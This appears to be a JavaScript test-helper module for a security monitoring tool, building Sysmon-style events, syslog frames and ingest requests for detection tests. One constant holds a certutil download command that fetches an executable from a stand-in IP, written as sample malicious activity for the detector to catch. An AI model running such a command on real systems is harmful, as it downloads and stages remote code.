// Helpers for tests of 24/7 monitoring: events shaped like Sysmon's, syslog senders, and the
// NDJSON ingest endpoint. Node built-ins only.
import dgram from 'node:dgram';
import net from 'node:net';
import path from 'node:path';

import { REPO_ROOT } from './server.mjs';

/** The SigmaHQ rule folder of ../shared (VIGIL_SHARED_DIR overrides). */
export const SIGMA_RULES = path.join(process.env.VIGIL_SHARED_DIR || path.resolve(REPO_ROOT, '..', 'shared'), 'data', 'sigma', 'rules');

export const CERTUTIL = 'C:\\Windows\\System32\\certutil.exe';
export const CERTUTIL_CMD = 'certutil.exe -urlcache -split -f http://198.51.100.9/a.exe a.exe';

/** A Sysmon process-creation event (EVTX JSON shape), timed now. */
export function sysmonProcess(computer, image, commandLine) {
  return {
    Event: {
      System: {
        EventID: 1,
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Computer: computer,
        TimeCreated: { '#attributes': { SystemTime: new Date().toISOString() } },
      },
      EventData: { Image: image, CommandLine: commandLine, ParentImage: 'C:\\Windows\\System32\\cmd.exe' },
    },
  };
}

/** RFC 6587 octet counting. */
export const octet = (msg) => `${Buffer.byteLength(msg)} ${msg}`;
/** An RFC 5424 message timed now. */
export const rfc5424 = (host, app, msg) => `<38>1 ${new Date().toISOString()} ${host} ${app} 4242 - - ${msg}`;

/** Sends `frames` over one TCP connection to 127.0.0.1:port and closes it. */
export function sendTcp(port, frames) {
  return new Promise((resolve, reject) => {
    const c = net.connect(port, '127.0.0.1', () => c.end(frames));
    c.on('close', resolve);
    c.on('error', reject);
  });
}

/** Sends one UDP datagram to 127.0.0.1:port. */
export function sendUdp(port, message) {
  return new Promise((resolve, reject) => {
    const s = dgram.createSocket('udp4');
    s.send(Buffer.from(message), port, '127.0.0.1', (err) => {
      s.close();
      if (err) reject(err);
      else resolve();
    });
  });
}

/** POST /api/v1/ingest with a log source token → { status, json, text }. */
export async function postIngest(url, token, body) {
  const r = await fetch(`${url}/api/v1/ingest`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/x-ndjson' },
    body,
  });
  const text = await r.text();
  let json = null;
  try {
    json = JSON.parse(text);
  } catch {}
  return { status: r.status, json, text };
}

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

/** Polls `fn` until it returns a truthy value (or fails after `ms`). */
export async function eventually(fn, what, ms = 15_000) {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    const value = await fn();
    if (value) return value;
    await sleep(150);
  }
  throw new Error(`timed out waiting for ${what}`);
}
